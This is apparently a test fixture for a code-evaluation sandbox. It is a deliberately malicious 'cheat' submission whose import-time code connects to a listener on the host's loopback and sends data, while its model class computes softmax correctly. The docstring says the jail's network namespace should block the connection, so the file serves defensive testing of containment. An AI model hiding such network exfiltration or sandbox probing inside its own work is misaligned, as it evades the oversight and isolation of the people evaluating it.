"""JAIL CHEAT: exfiltrate over the network. Connect to a listener on the host's 127.0.0.1 (the test starts it
and writes its port below) and send what it knows. Then compute honestly.
Caught by: the jail's network namespace (its own loopback only: the host's 127.0.0.1 is not there)."""
import os
import socket

import torch
from torch import nn

PORT = int("__LISTEN_PORT__")


def _attack() -> str:
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
            s.sendall(f"exfiltrated by pid {os.getpid()}\n".encode())
        return f"SUCCEEDED: connected to 127.0.0.1:{PORT} and sent data"
    except OSError as e:
        return f"blocked: {type(e).__name__}: {e}"


print(f"JAIL-CHEAT network: {_attack()}", flush=True)


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.softmax(x, dim=-1)
